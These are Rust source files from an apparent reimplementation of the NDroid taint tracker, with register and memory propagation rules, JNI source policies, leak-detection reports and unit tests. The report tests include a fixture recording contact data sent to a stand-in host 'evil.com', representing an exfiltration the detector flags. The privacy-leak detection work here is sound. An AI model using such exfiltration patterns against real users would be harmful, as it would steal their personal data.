                    t |= shadow.regs[rs.index()];
                }
            }
            if rd != Reg::PC {
                shadow.regs[rd.index()] = t;
            }
        }
        Instr::Mul { rd, rm, rs, acc, .. } => {
            let mut t = shadow.regs[rm.index()] | shadow.regs[rs.index()];
            if let Some(ra) = acc {
                t |= shadow.regs[ra.index()];
            }
            if rd != Reg::PC {
                shadow.regs[rd.index()] = t;
            }
        }
        Instr::Mem {
            load,
            size,
            rd,
            rn,
            offset,
            ..
        } => {
            let Some(addr) = effect.addr else { return };
            let width = size.bytes();
            if load {
                // t(Rd) = t(M[addr]) OR t(Rn) — the address-taint rule.
                let mut t = shadow.mem.range_taint(addr, width) | shadow.regs[rn.index()];
                if let MemOffset::Reg { rm, .. } = offset {
                    t |= shadow.regs[rm.index()];
                }
                if rd != Reg::PC {
                    shadow.regs[rd.index()] = t;
                }
            } else {
                // t(M[addr]) = t(Rd) — a SET, not a union.
                shadow.mem.set_range(addr, width, shadow.regs[rd.index()]);
            }
        }
        Instr::MemMulti {
            load, rn, regs, ..
        } => {
            let Some(start) = effect.addr else { return };
            let base_taint = shadow.regs[rn.index()];
            for (i, r) in regs.iter().enumerate() {
                let slot = start.wrapping_add(4 * i as u32);
                if load {
                    let t = shadow.mem.range_taint(slot, 4) | base_taint;
                    if r != Reg::PC {
                        shadow.regs[r.index()] = t;
                    }
                } else {
                    shadow.mem.set_range(slot, 4, shadow.regs[r.index()]);
                }
            }
        }
        Instr::Branch { .. } | Instr::BranchExchange { .. } | Instr::Svc { .. } => {}
        Instr::Vfp {
            op,
            prec,
            fd,
            fn_,
            fm,
            ..
        } => {
            if op == VfpOp::Cmp {
                return;
            }
            let t = match prec {
                VfpPrec::F32 => {
                    let mut t = shadow.vfp[(fm & 31) as usize];
                    if op != VfpOp::Mov {
                        t |= shadow.vfp[(fn_ & 31) as usize];
                    }
                    t
                }
                VfpPrec::F64 => {
                    let mut t = shadow.vfp[((fm & 15) * 2) as usize]
                        | shadow.vfp[((fm & 15) * 2 + 1) as usize];
                    if op != VfpOp::Mov {
                        t |= shadow.vfp[((fn_ & 15) * 2) as usize]
                            | shadow.vfp[((fn_ & 15) * 2 + 1) as usize];
                    }
                    t
                }
            };
            match prec {
                VfpPrec::F32 => shadow.vfp[(fd & 31) as usize] = t,
                VfpPrec::F64 => {
                    shadow.vfp[((fd & 15) * 2) as usize] = t;
                    shadow.vfp[((fd & 15) * 2 + 1) as usize] = t;
                }
            }
        }
        Instr::VfpMem {
            load, prec, fd, rn, ..
        } => {
            let Some(addr) = effect.addr else { return };
            let width = if prec == VfpPrec::F64 { 8 } else { 4 };
            if load {
                let t = shadow.mem.range_taint(addr, width) | shadow.regs[rn.index()];
                match prec {
                    VfpPrec::F32 => shadow.vfp[(fd & 31) as usize] = t,
                    VfpPrec::F64 => {
                        shadow.vfp[((fd & 15) * 2) as usize] = t;
                        shadow.vfp[((fd & 15) * 2 + 1) as usize] = t;
                    }
                }
            } else {
                let t = match prec {
                    VfpPrec::F32 => shadow.vfp[(fd & 31) as usize],
                    VfpPrec::F64 => {
                        shadow.vfp[((fd & 15) * 2) as usize]
                            | shadow.vfp[((fd & 15) * 2 + 1) as usize]
                    }
                };
                shadow.mem.set_range(addr, width, t);
            }
        }
        Instr::VfpMrs { .. } => {}
    }
}

/// A cache of "does this PC need taint work" pre-decodings — the
/// paper's hot-instruction cache ("NDroid caches hot instructions and
/// the corresponding handlers", §V-C). With our pre-decoded [`Instr`]
/// model the win is small; the cache exists so the ablation benchmark
/// (`ablate_decode_cache`) can measure exactly that claim.
#[derive(Debug, Default)]
pub struct HandlerCache {
    seen: HashMap<u32, bool>,
    /// Cache hits.
    pub hits: u64,
    /// Cache misses.
    pub misses: u64,
}

impl HandlerCache {
    /// An empty cache.
    pub fn new() -> HandlerCache {
        HandlerCache::default()
    }

    /// Looks up the cached classification for `pc`: `Some(relevant?)`
    /// on a hit, `None` when the instruction must be identified.
    pub fn lookup(&mut self, pc: u32) -> Option<bool> {
        match self.seen.get(&pc) {
            Some(hit) => {
                self.hits += 1;
                Some(*hit)
            }
            None => {
                self.misses += 1;
                None
            }
        }
    }

    /// Records the classification of the instruction at `pc`.
    pub fn insert(&mut self, pc: u32, relevant: bool) {
        self.seen.insert(pc, relevant);
    }

    /// Whether the instruction affects taint propagation at all.
    pub fn classify(instr: &Instr) -> bool {
        !matches!(
            instr,
            Instr::Branch { .. } | Instr::BranchExchange { .. } | Instr::Svc { .. }
        )
    }

    /// Whether the instruction at `pc` affects taint (cached) — the
    /// combined lookup/insert convenience.
    pub fn needs_taint_work(&mut self, pc: u32, instr: &Instr) -> bool {
        match self.lookup(pc) {
            Some(hit) => hit,
            None => {
                let relevant = HandlerCache::classify(instr);
                self.insert(pc, relevant);
                relevant
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_arm::cond::Cond;
    use ndroid_arm::insn::{AddrMode4, DpOp, MemSize, ShiftKind};
    use ndroid_arm::reg::RegList;

    fn eff(instr: Instr, addr: Option<u32>) -> Effect {
        Effect {
            instr,
            pc: 0x1000_0000,
            size: 4,
            executed: true,
            branch: None,
            addr,
            svc: None,
        }
    }

    fn dp(op: DpOp, rd: Reg, rn: Reg, op2: Op2) -> Instr {
        Instr::Dp {
            cond: Cond::Al,
            op,
            s: false,
            rd,
            rn,
            op2,
        }
    }

    #[test]
    fn binary_op_unions_taints() {
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::IMEI;
        sh.regs[2] = Taint::SMS;
        propagate(
            &mut sh,
            &eff(dp(DpOp::Add, Reg::R0, Reg::R1, Op2::reg(Reg::R2)), None),
        );
        assert_eq!(sh.regs[0], Taint::IMEI | Taint::SMS);
    }

    #[test]
    fn binary_op_imm_copies_rn_taint() {
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::CONTACTS;
        propagate(
            &mut sh,
            &eff(
                dp(DpOp::Add, Reg::R0, Reg::R1, Op2::encode_imm(4).unwrap()),
                None,
            ),
        );
        assert_eq!(sh.regs[0], Taint::CONTACTS);
    }

    #[test]
    fn mov_imm_clears() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::IMEI;
        propagate(
            &mut sh,
            &eff(
                dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::encode_imm(7).unwrap()),
                None,
            ),
        );
        assert_eq!(sh.regs[0], Taint::CLEAR, "mov Rd, #imm clears Rd taint");
    }

    #[test]
    fn mov_reg_copies() {
        let mut sh = ShadowState::new();
        sh.regs[3] = Taint::SMS;
        propagate(
            &mut sh,
            &eff(dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::reg(Reg::R3)), None),
        );
        assert_eq!(sh.regs[0], Taint::SMS);
    }

    #[test]
    fn compare_leaves_taint_alone() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::IMEI;
        sh.regs[1] = Taint::SMS;
        propagate(
            &mut sh,
            &eff(dp(DpOp::Cmp, Reg::R0, Reg::R0, Op2::reg(Reg::R1)), None),
        );
        assert_eq!(sh.regs[0], Taint::IMEI, "no control-flow taint");
    }

    #[test]
    fn load_unions_memory_and_base_taint() {
        let mut sh = ShadowState::new();
        sh.mem.set_range(0x5000, 4, Taint::SMS);
        sh.regs[1] = Taint::IMEI; // tainted pointer
        let instr = Instr::Mem {
            cond: Cond::Al,
            load: true,
            size: MemSize::Word,
            rd: Reg::R0,
            rn: Reg::R1,
            offset: MemOffset::Imm(0),
            pre: true,
            up: true,
            writeback: false,
        };
        propagate(&mut sh, &eff(instr, Some(0x5000)));
        assert_eq!(
            sh.regs[0],
            Taint::SMS | Taint::IMEI,
            "t(Rd) = t(M[addr]) OR t(Rn)"
        );
    }

    #[test]
    fn store_sets_memory_taint() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::CONTACTS;
        sh.mem.set_range(0x6000, 4, Taint::IMEI); // will be overwritten
        let instr = Instr::Mem {
            cond: Cond::Al,
            load: false,
            size: MemSize::Word,
            rd: Reg::R0,
            rn: Reg::R1,
            offset: MemOffset::Imm(0),
            pre: true,
            up: true,
            writeback: false,
        };
        propagate(&mut sh, &eff(instr, Some(0x6000)));
        assert_eq!(
            sh.mem.range_taint(0x6000, 4),
            Taint::CONTACTS,
            "t(M[addr]) = t(Rd) is a SET"
        );
    }

    #[test]
    fn byte_store_taints_one_byte() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::SMS;
        let instr = Instr::Mem {
            cond: Cond::Al,
            load: false,
            size: MemSize::Byte,
            rd: Reg::R0,
            rn: Reg::R1,
            offset: MemOffset::Imm(0),
            pre: true,
            up: true,
            writeback: false,
        };
        propagate(&mut sh, &eff(instr, Some(0x7000)));
        assert_eq!(sh.mem.get(0x7000), Taint::SMS);
        assert_eq!(sh.mem.get(0x7001), Taint::CLEAR, "byte granularity");
    }

    #[test]
    fn ldm_stm_per_register() {
        let mut sh = ShadowState::new();
        sh.regs[4] = Taint::IMEI;
        sh.regs[5] = Taint::SMS;
        let push = Instr::MemMulti {
            cond: Cond::Al,
            load: false,
            rn: Reg::SP,
            mode: AddrMode4::Db,
            writeback: true,
            regs: RegList::of(&[Reg::R4, Reg::R5]),
        };
        propagate(&mut sh, &eff(push, Some(0x8000)));
        assert_eq!(sh.mem.range_taint(0x8000, 4), Taint::IMEI);
        assert_eq!(sh.mem.range_taint(0x8004, 4), Taint::SMS);

        // Pop into different registers.
        sh.regs[4] = Taint::CLEAR;
        sh.regs[5] = Taint::CLEAR;
        let pop = Instr::MemMulti {
            cond: Cond::Al,
            load: true,
            rn: Reg::SP,
            mode: AddrMode4::Ia,
            writeback: true,
            regs: RegList::of(&[Reg::R6, Reg::R7]),
        };
        propagate(&mut sh, &eff(pop, Some(0x8000)));
        assert_eq!(sh.regs[6], Taint::IMEI);
        assert_eq!(sh.regs[7], Taint::SMS);
    }

    #[test]
    fn skipped_instruction_does_nothing() {
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::IMEI;
        let mut e = eff(dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::reg(Reg::R1)), None);
        e.executed = false;
        propagate(&mut sh, &e);
        assert_eq!(sh.regs[0], Taint::CLEAR);
    }

    #[test]
    fn shift_by_register_includes_amount_taint() {
        let mut sh = ShadowState::new();
        sh.regs[2] = Taint::CLEAR; // value
        sh.regs[3] = Taint::SMS; // shift amount is tainted
        propagate(
            &mut sh,
            &eff(
                dp(
                    DpOp::Mov,
                    Reg::R0,
                    Reg::R0,
                    Op2::RegShiftReg {
                        rm: Reg::R2,
                        kind: ShiftKind::Lsl,
                        rs: Reg::R3,
                    },
                ),
                None,
            ),
        );
        assert_eq!(sh.regs[0], Taint::SMS);
    }

    #[test]
    fn vfp_propagation() {
        let mut sh = ShadowState::new();
        sh.vfp[2] = Taint::LOCATION_GPS; // d1 low half
        let vadd = Instr::Vfp {
            cond: Cond::Al,
            op: VfpOp::Add,
            prec: VfpPrec::F64,
            fd: 0,
            fn_: 1,
            fm: 2,
        };
        propagate(&mut sh, &eff(vadd, None));
        assert_eq!(sh.vfp[0], Taint::LOCATION_GPS);
        assert_eq!(sh.vfp[1], Taint::LOCATION_GPS);
    }

    #[test]
    fn vfp_store_and_load_memory() {
        let mut sh = ShadowState::new();
        sh.vfp[0] = Taint::MIC;
        sh.vfp[1] = Taint::MIC;
        let vstr = Instr::VfpMem {
            cond: Cond::Al,
            load: false,
            prec: VfpPrec::F64,
            fd: 0,
            rn: Reg::R1,
            offset: 0,
            up: true,
        };
        propagate(&mut sh, &eff(vstr, Some(0x9000)));
        assert_eq!(sh.mem.range_taint(0x9000, 8), Taint::MIC);
        let vldr = Instr::VfpMem {
            cond: Cond::Al,
            load: true,
            prec: VfpPrec::F32,
            fd: 5,
            rn: Reg::R1,
            offset: 0,
            up: true,
        };
        propagate(&mut sh, &eff(vldr, Some(0x9000)));
        assert_eq!(sh.vfp[5], Taint::MIC);
    }

    #[test]
    fn handler_cache_hits() {
        let mut cache = HandlerCache::new();
        let add = dp(DpOp::Add, Reg::R0, Reg::R1, Op2::reg(Reg::R2));
        let b = Instr::Branch {
            cond: Cond::Al,
            link: false,
            offset: 0,
        };
        assert!(cache.needs_taint_work(0x100, &add));
        assert!(!cache.needs_taint_work(0x104, &b));
        assert!(cache.needs_taint_work(0x100, &add));
        assert_eq!(cache.hits, 1);
        assert_eq!(cache.misses, 2);
    }
}
