//! `SourcePolicy`: the structure NDroid creates when tainted data
//! crosses from the Java context into a native method (§V-B, Listing 1).
//!
//! ```c
//! typedef struct _SourcePolicy {
//!     int method_address;
//!     int tR0, tR1, tR2, tR3;
//!     int stack_args_num;
//!     int *stack_args_taints;
//!     char *method_shorty;
//!     int access_flag;
//!     void (*handler)(struct _SourcePolicy*, CPUState*);
//! } SourcePolicy;
//! ```
//!
//! "Each native method receiving tainted parameters will have a
//! SourcePolicy and we use a hash map to store the pairs of
//! `<addr, SourcePolicy>`."

use ndroid_dvm::{IndirectRef, Taint};
use ndroid_emu::shadow::ShadowState;
use std::collections::HashMap;

/// The taint-initialization record for one native method invocation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourcePolicy {
    /// Address of the native method's first instruction.
    pub method_address: u32,
    /// Taints of the first four (register) parameters.
    pub t_regs: [Taint; 4],
    /// Number of parameters passed on the stack.
    pub stack_args_num: usize,
    /// Taints of the stack parameters.
    pub stack_args_taints: Vec<Taint>,
    /// The method shorty (e.g. `IILLLLLLLLII` in Fig. 6).
    pub method_shorty: String,
    /// The method's access flags.
    pub access_flag: u32,
    /// Indirect-reference arguments and their taints (recorded so the
    /// object taint map can be primed; keyed by indirect reference per
    /// §V-B).
    pub object_args: Vec<(IndirectRef, Taint)>,
}

impl SourcePolicy {
    /// Builds a policy from the marshalled arguments of a JNI call.
    /// `args` are post-marshalling register values (objects already
    /// indirect refs); `kinds` are the per-argument shorty characters.
    pub fn from_call(
        method_address: u32,
        shorty: &str,
        access_flag: u32,
        args: &[u32],
        taints: &[Taint],
        kinds: &[char],
    ) -> SourcePolicy {
        let mut t_regs = [Taint::CLEAR; 4];
        for (i, t) in taints.iter().take(4).enumerate() {
            t_regs[i] = *t;
        }
        let stack_args_taints: Vec<Taint> = taints.iter().skip(4).copied().collect();
        let object_args = args
            .iter()
            .zip(taints.iter())
            .zip(kinds.iter())
            .filter(|((value, _), kind)| **kind == 'L' && **value != 0)
            .map(|((value, taint), _)| (IndirectRef(*value), *taint))
            .collect();
        SourcePolicy {
            method_address,
            t_regs,
            stack_args_num: stack_args_taints.len(),
            stack_args_taints,
            method_shorty: shorty.to_string(),
            access_flag,
            object_args,
        }
    }

    /// Whether any parameter carries taint (policies are only stored
    /// for methods "receiving tainted parameters").
    pub fn any_tainted(&self) -> bool {
        self.t_regs.iter().any(|t| t.is_tainted())
            || self.stack_args_taints.iter().any(|t| t.is_tainted())
    }

    /// The handler: "completes the taint initialization" right before
    /// the native method executes — shadow registers for R0–R3, the
    /// taint map for stack parameters, and the object taint map for
    /// reference parameters.
    pub fn apply(&self, shadow: &mut ShadowState, stack_args_base: u32) {
        for (i, t) in self.t_regs.iter().enumerate() {
            shadow.regs[i] = *t;
        }
        for (i, t) in self.stack_args_taints.iter().enumerate() {
            shadow.mem.set_range(stack_args_base + 4 * i as u32, 4, *t);
        }
        for (r, t) in &self.object_args {
            shadow.taint_object(*r, *t);
        }
    }
}

/// The `<addr, SourcePolicy>` hash map of §V-B.
#[derive(Debug, Default, Clone)]
pub struct SourcePolicyMap {
    map: HashMap<u32, SourcePolicy>,
    /// Number of policies ever installed (statistics).
    pub installed: u64,
}

impl SourcePolicyMap {
    /// An empty map.
    pub fn new() -> SourcePolicyMap {
        SourcePolicyMap::default()
    }

    /// Stores a policy under the method's entry address.
    pub fn insert(&mut self, policy: SourcePolicy) {
        self.installed += 1;
        self.map.insert(policy.method_address, policy);
    }

    /// Looks up the policy for a method entry address.
    pub fn get(&self, method_address: u32) -> Option<&SourcePolicy> {
        self.map.get(&method_address)
    }

    /// Removes a policy (after the invocation completes).
    pub fn remove(&mut self, method_address: u32) -> Option<SourcePolicy> {
        self.map.remove(&method_address)
    }

    /// Number of live policies.
    pub fn len(&self) -> usize {
        self.map.len()
    }

    /// Whether the map is empty.
    pub fn is_empty(&self) -> bool {
        self.map.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn from_call_splits_reg_and_stack() {
        let taints = [
            Taint::IMEI,
            Taint::CLEAR,
            Taint::SMS,
            Taint::CLEAR,
            Taint::CONTACTS,
            Taint::CLEAR,
        ];
        let args = [1, 2, 3, 4, 5, 6];
        let kinds: Vec<char> = "IIIIII".chars().collect();
        let p = SourcePolicy::from_call(0x4a2c_7d88, "VIIIIII", 0x9, &args, &taints, &kinds);
        assert_eq!(p.t_regs, [Taint::IMEI, Taint::CLEAR, Taint::SMS, Taint::CLEAR]);
        assert_eq!(p.stack_args_num, 2);
        assert_eq!(p.stack_args_taints, vec![Taint::CONTACTS, Taint::CLEAR]);
        assert!(p.any_tainted());
        assert!(p.object_args.is_empty());
    }

    #[test]
    fn object_args_recorded_for_l_kinds() {
        let taints = [Taint::CONTACTS, Taint::CLEAR];
        let args = [0xa890_0025, 7];
        let kinds: Vec<char> = "LI".chars().collect();
        let p = SourcePolicy::from_call(0x1000_0000, "ZLI", 0x1, &args, &taints, &kinds);
        assert_eq!(p.object_args.len(), 1);
        assert_eq!(p.object_args[0].0, IndirectRef(0xa890_0025));
        assert_eq!(p.object_args[0].1, Taint::CONTACTS);
    }

    #[test]
    fn apply_initializes_shadow_state() {
        let taints = [Taint::IMEI, Taint::CLEAR, Taint::CLEAR, Taint::CLEAR, Taint::SMS];
        let args = [0xa890_0025, 0, 0, 0, 9];
        let kinds: Vec<char> = "LIIII".chars().collect();
        let p = SourcePolicy::from_call(0x1000_0000, "VLIIII", 0x9, &args, &taints, &kinds);
        let mut sh = ShadowState::new();
        p.apply(&mut sh, 0x4070_0000);
        assert_eq!(sh.regs[0], Taint::IMEI);
        assert_eq!(sh.regs[1], Taint::CLEAR);
        assert_eq!(sh.mem.range_taint(0x4070_0000, 4), Taint::SMS);
        assert_eq!(sh.object_taint(IndirectRef(0xa890_0025)), Taint::IMEI);
    }

    #[test]
    fn clean_policy_reports_untainted() {
        let p = SourcePolicy::from_call(
            0x1000_0000,
            "VI",
            0x9,
            &[5],
            &[Taint::CLEAR],
            &['I'],
        );
        assert!(!p.any_tainted());
    }

    #[test]
    fn map_keyed_by_method_address() {
        let mut map = SourcePolicyMap::new();
        assert!(map.is_empty());
        let p = SourcePolicy::from_call(
            0x4a2c_7d88,
            "ZLLL",
            0x1,
            &[1, 2, 3],
            &[Taint::CONTACTS; 3],
            &['L', 'L', 'L'],
        );
        map.insert(p.clone());
        assert_eq!(map.len(), 1);
        assert_eq!(map.get(0x4a2c_7d88), Some(&p));
        assert!(map.get(0xdead).is_none());
        assert_eq!(map.remove(0x4a2c_7d88), Some(p));
        assert!(map.is_empty());
        assert_eq!(map.installed, 1);
    }
}
