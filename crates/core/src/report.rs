//! Run results ([`RunReport`]), per-job outcome types shared by the
//! batch farm and the resident service ([`JobOutcome`], [`JobResult`]),
//! and detection reporting for the case-matrix experiments (Table I /
//! Fig. 3 of the paper).

use crate::analysis::{AnalysisStats, ProtectionViolation};
use crate::config::EngineKind;
use crate::system::Mode;
use ndroid_dvm::{LeakEvent, SinkContext, Taint};
use ndroid_provenance::{ProvStore, ProvenanceSummary};

/// What happened to one job, whether it ran through the offline farm
/// ([`crate::batch::run_batch`]) or the resident service
/// ([`crate::service::AnalysisService`]). Both modes classify outcomes
/// through the same code path, so a given job produces the identical
/// variant either way — the bedrock of the drain-vs-batch byte-identity
/// contract.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobOutcome {
    /// The job ran to completion.
    Completed(RunReport),
    /// The job returned an error (other than budget exhaustion, which
    /// classifies as [`JobOutcome::Deadline`]).
    Failed(String),
    /// The job panicked; the payload's message, if it was a string.
    /// The worker survived and kept draining the queue.
    Crashed(String),
    /// The job exceeded its budget or deadline: either the guest
    /// instruction budget ([`crate::SystemConfig::budget`]) ran out
    /// mid-run — deterministic, so batch and service modes agree — or
    /// the service's wall-clock deadline expired before the job was
    /// dequeued (service mode only; see
    /// [`crate::batch::JobBuilder::deadline`]).
    Deadline(String),
}

impl JobOutcome {
    /// The report, if the job completed.
    pub fn report(&self) -> Option<&RunReport> {
        match self {
            JobOutcome::Completed(r) => Some(r),
            _ => None,
        }
    }
}

/// One merged row of a [`crate::BatchReport`]: the job's label and
/// outcome, in submission order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobResult {
    /// The job's label as submitted.
    pub label: String,
    /// What happened.
    pub outcome: JobOutcome,
}

/// Everything externally observable about one finished analysis run,
/// snapshotted by [`crate::NDroidSystem::report`]. This is the one
/// result type: case outcomes, drive reports, batch merges and the
/// experiment binaries all consume it instead of poking at the live
/// system. It deliberately excludes the trace log and any wall-clock
/// data, so two runs of the same app under the same [`crate::SystemConfig`]
/// compare equal regardless of verbosity or host timing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunReport {
    /// The analysis mode the system ran under.
    pub mode: Mode,
    /// Which tracer engine ran (NDroid mode only; `Optimized` otherwise).
    pub engine: EngineKind,
    /// Every sink invocation, tainted or not, across both contexts.
    pub sink_events: Vec<LeakEvent>,
    /// The kernel's raw network log: `(destination, payload, taint)`.
    pub network_log: Vec<(String, Vec<u8>, Taint)>,
    /// §VII taint-protection violations (NDroid engines only).
    pub violations: Vec<ProtectionViolation>,
    /// Analysis statistics (NDroid engines only).
    pub stats: Option<AnalysisStats>,
    /// Native instructions traced.
    pub native_insns: u64,
    /// Dalvik bytecodes interpreted.
    pub bytecodes: u64,
    /// Digest of the recorded taint provenance (`None` when the run's
    /// [`ndroid_provenance::Level`] was `Off`).
    pub provenance: Option<ProvenanceSummary>,
    /// The frozen tiered provenance store — the full (lossless) event
    /// trail behind [`ndroid_provenance::ProvQuery`] and
    /// `BatchReport::query`. `None` unless the run was configured with
    /// [`crate::SystemConfig::provenance_store`], so flat-ring runs
    /// keep their report exactly as lean as before. Sealed segments
    /// are refcount-shared: carrying this across worker threads is a
    /// pointer copy per segment, not a re-encode.
    pub provenance_store: Option<ProvStore>,
}

impl RunReport {
    /// The detected leaks (tainted sink hits).
    pub fn leaks(&self) -> Vec<&LeakEvent> {
        self.sink_events.iter().filter(|e| e.is_leak()).collect()
    }

    /// Whether any leak was detected.
    pub fn leaked(&self) -> bool {
        self.sink_events.iter().any(|e| e.is_leak())
    }
}

/// The outcome of running one information-flow case under one
/// (mode, engine) configuration.
#[derive(Debug, Clone)]
pub struct CaseOutcome {
    /// Case identifier (e.g. `"case1'"`).
    pub case: String,
    /// The analysis mode.
    pub mode: Mode,
    /// The tracer engine that produced the row — reference-engine A/B
    /// rows are distinct from optimized rows, not overwrites.
    pub engine: EngineKind,
    /// Leaks detected (tainted sink hits).
    pub leaks: Vec<LeakEvent>,
    /// Sink invocations that carried the sensitive data but were seen
    /// as clean (undetected exfiltration — the false negatives the
    /// paper attributes to TaintDroid in cases 1', 2, 3, 4).
    pub missed_exfiltrations: usize,
    /// Source→sink leak paths reconstructed from the run's provenance
    /// (0 when provenance recording was off — the schema-stable
    /// default, so `exp_case_matrix` output is unchanged).
    pub leak_paths: usize,
}

impl CaseOutcome {
    /// Whether the flow was detected.
    pub fn detected(&self) -> bool {
        !self.leaks.is_empty()
    }

    /// Render as the table cell the paper's narrative implies.
    pub fn cell(&self) -> &'static str {
        if self.detected() {
            "detected"
        } else if self.missed_exfiltrations > 0 {
            "MISSED"
        } else {
            "-"
        }
    }
}

/// Collects an outcome from a finished run's [`RunReport`].
///
/// `ground_truth_markers` are substrings of the actually-exfiltrated
/// sensitive values; a sink event whose data contains one of them but
/// whose taint is clear counts as a missed exfiltration.
pub fn collect_outcome(
    case: &str,
    report: &RunReport,
    ground_truth_markers: &[&str],
) -> CaseOutcome {
    let leaks: Vec<LeakEvent> = report.leaks().into_iter().cloned().collect();
    let missed = report
        .sink_events
        .iter()
        .filter(|e| {
            e.taint.is_clear() && ground_truth_markers.iter().any(|m| e.data.contains(m))
        })
        .count();
    CaseOutcome {
        case: case.to_string(),
        mode: report.mode,
        engine: report.engine,
        leaks,
        missed_exfiltrations: missed,
        leak_paths: report.provenance.map_or(0, |p| p.leak_paths),
    }
}

/// A whole detection matrix: cases × modes.
#[derive(Debug, Default)]
pub struct DetectionReport {
    outcomes: Vec<CaseOutcome>,
}

impl DetectionReport {
    /// An empty report.
    pub fn new() -> DetectionReport {
        DetectionReport::default()
    }

    /// Adds one outcome.
    pub fn push(&mut self, outcome: CaseOutcome) {
        self.outcomes.push(outcome);
    }

    /// All recorded outcomes.
    pub fn outcomes(&self) -> &[CaseOutcome] {
        &self.outcomes
    }

    /// The outcome for (case, mode, engine), if recorded. The engine is
    /// part of the key: an A/B matrix holding both optimized and
    /// reference rows for the same case keeps them distinct.
    pub fn outcome(&self, case: &str, mode: Mode, engine: EngineKind) -> Option<&CaseOutcome> {
        self.outcomes
            .iter()
            .find(|o| o.case == case && o.mode == mode && o.engine == engine)
    }

    /// Renders the Table-I-style matrix (rows = cases, columns = modes)
    /// for the optimized engine's rows.
    pub fn render(&self, modes: &[Mode]) -> String {
        self.render_engine(modes, EngineKind::Optimized)
    }

    /// Renders the matrix for one engine's rows.
    pub fn render_engine(&self, modes: &[Mode], engine: EngineKind) -> String {
        let mut cases: Vec<&str> = Vec::new();
        for o in &self.outcomes {
            if !cases.contains(&o.case.as_str()) {
                cases.push(&o.case);
            }
        }
        let mut out = String::new();
        out.push_str(&format!("{:<28}", "case"));
        for m in modes {
            out.push_str(&format!("{:<16}", m.to_string()));
        }
        out.push('\n');
        for case in cases {
            out.push_str(&format!("{case:<28}"));
            for m in modes {
                let cell = self
                    .outcome(case, *m, engine)
                    .map(CaseOutcome::cell)
                    .unwrap_or("?");
                out.push_str(&format!("{cell:<16}"));
            }
            out.push('\n');
        }
        out
    }
}

/// Summarizes a leak for log output, e.g.
/// `contacts,sms -> send(info.3g.qq.com) [native]`.
pub fn describe_leak(leak: &LeakEvent) -> String {
    let ctx = match leak.context {
        SinkContext::Java => "java",
        SinkContext::Native => "native",
    };
    format!(
        "{} -> {}({}) [{}]",
        leak.taint.source_names().join(","),
        leak.sink,
        leak.dest,
        ctx
    )
}

/// Helper for tests: whether any leak carries all bits of `taint`.
pub fn leaked_with(leaks: &[LeakEvent], taint: Taint) -> bool {
    leaks.iter().any(|l| l.taint.contains(taint))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn leak(taint: Taint) -> LeakEvent {
        LeakEvent {
            sink: "send".into(),
            dest: "evil.com".into(),
            data: "x".into(),
            taint,
            context: SinkContext::Native,
        }
    }

    #[test]
    fn outcome_cells() {
        let detected = CaseOutcome {
            case: "case2".into(),
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            leaks: vec![leak(Taint::CONTACTS)],
            missed_exfiltrations: 0,
            leak_paths: 0,
        };
        assert!(detected.detected());
        assert_eq!(detected.cell(), "detected");
        let missed = CaseOutcome {
            case: "case2".into(),
            mode: Mode::TaintDroid,
            engine: EngineKind::Optimized,
            leaks: vec![],
            missed_exfiltrations: 1,
            leak_paths: 0,
        };
        assert_eq!(missed.cell(), "MISSED");
        let benign = CaseOutcome {
            case: "benign".into(),
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            leaks: vec![],
            missed_exfiltrations: 0,
            leak_paths: 0,
        };
        assert_eq!(benign.cell(), "-");
    }

    #[test]
    fn report_matrix_renders() {
        let mut r = DetectionReport::new();
        r.push(CaseOutcome {
            case: "case1".into(),
            mode: Mode::TaintDroid,
            engine: EngineKind::Optimized,
            leaks: vec![leak(Taint::IMEI)],
            missed_exfiltrations: 0,
            leak_paths: 0,
        });
        r.push(CaseOutcome {
            case: "case1".into(),
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            leaks: vec![leak(Taint::IMEI)],
            missed_exfiltrations: 0,
            leak_paths: 0,
        });
        let s = r.render(&[Mode::TaintDroid, Mode::NDroid]);
        assert!(s.contains("case1"));
        assert!(s.contains("detected"));
        assert!(r.outcome("case1", Mode::NDroid, EngineKind::Optimized).is_some());
        assert!(r.outcome("case9", Mode::NDroid, EngineKind::Optimized).is_none());
    }

    #[test]
    fn engine_is_part_of_the_matrix_key() {
        // The pre-redesign bug: an A/B run pushed a reference-engine row
        // for (case1, NDroid) and `outcome` returned whichever came
        // first, so reference rows shadowed optimized rows (or vice
        // versa). Keyed on the triple, both coexist.
        let mut r = DetectionReport::new();
        r.push(CaseOutcome {
            case: "case1".into(),
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            leaks: vec![leak(Taint::IMEI)],
            missed_exfiltrations: 0,
            leak_paths: 0,
        });
        r.push(CaseOutcome {
            case: "case1".into(),
            mode: Mode::NDroid,
            engine: EngineKind::Reference,
            leaks: vec![],
            missed_exfiltrations: 1,
            leak_paths: 0,
        });
        let opt = r.outcome("case1", Mode::NDroid, EngineKind::Optimized).unwrap();
        let refr = r.outcome("case1", Mode::NDroid, EngineKind::Reference).unwrap();
        assert!(opt.detected());
        assert!(!refr.detected());
        assert_eq!(r.render(&[Mode::NDroid]).matches("detected").count(), 1);
        assert!(r
            .render_engine(&[Mode::NDroid], EngineKind::Reference)
            .contains("MISSED"));
    }

    #[test]
    fn describe_and_match() {
        let l = leak(Taint::CONTACTS | Taint::SMS);
        let d = describe_leak(&l);
        assert!(d.contains("contacts"));
        assert!(d.contains("sms"));
        assert!(d.contains("native"));
        assert!(leaked_with(std::slice::from_ref(&l), Taint::CONTACTS));
        assert!(!leaked_with(&[l], Taint::IMEI));
    }
}
